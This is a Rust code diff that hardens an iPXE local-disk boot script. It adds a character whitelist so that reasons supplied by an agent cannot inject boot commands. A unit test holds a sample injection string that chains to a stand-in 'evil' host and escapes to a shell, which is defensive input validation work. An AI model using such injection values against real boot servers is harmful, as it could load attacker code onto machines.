@@ -104,8 +104,27 @@ pub fn netboot_script(n: &Netboot<'_>, run: &str, host: &str, token: &str) -> St
 /// The script that hands the boot to the local disk, saying why.
 pub fn local_disk_script(mac: &str, why: &str) -> String {
     format!(
-        "#!ipxe\necho e2et: {why} for {mac}: booting the local disk\nsanboot --no-describe --drive 0x80 || exit 1\n"
+        "#!ipxe\necho e2et: {} for {}: booting the local disk\nsanboot --no-describe --drive 0x80 || exit 1\n",
+        ipxe_text(why),
+        ipxe_text(mac)
     )
+}
+
+/// Text safe on an iPXE `echo` line: iPXE splits a line into commands at
+/// `;`, `&&` and `||` tokens, starts a comment at a `#` token and expands
+/// `${...}`, and a reason can carry what an agent sent (a boot id). Only
+/// letters, digits, space and `.,:/()[]_'-` pass; anything else becomes
+/// `_`.
+fn ipxe_text(s: &str) -> String {
+    s.chars()
+        .map(|c| {
+            if c.is_ascii_alphanumeric() || " .,:/()[]_'-".contains(c) {
+                c
+            } else {
+                '_'
+            }
+        })
+        .collect()
 }
 
 #[cfg(test)]
@@ -199,6 +218,19 @@ mod tests {
             start_script("http://c"),
             "#!ipxe\nchain http://c/boot/${net0/mac}.ipxe\n"
         );
+        // What an agent sent cannot add an iPXE command to the line.
+        let evil = local_disk_script(
+            "52:54:00:00:00:01",
+            "conflicting agents: boot x ; chain http://evil/${net0/mac} || shell #",
+        );
+        let echo = evil.lines().nth(1).unwrap();
+        assert!(
+            echo.starts_with(
+                "echo e2et: conflicting agents: boot x _ chain http://evil/__net0/mac_ __ shell _"
+            ),
+            "{echo}"
+        );
+        assert_eq!(evil.lines().count(), 3, "{evil}");
         let l = local_disk_script("52:54:00:00:00:01", "no active run");
         assert!(l.contains("sanboot --no-describe --drive 0x80"));
         assert!(l.contains("no active run for 52:54:00:00:00:01"));
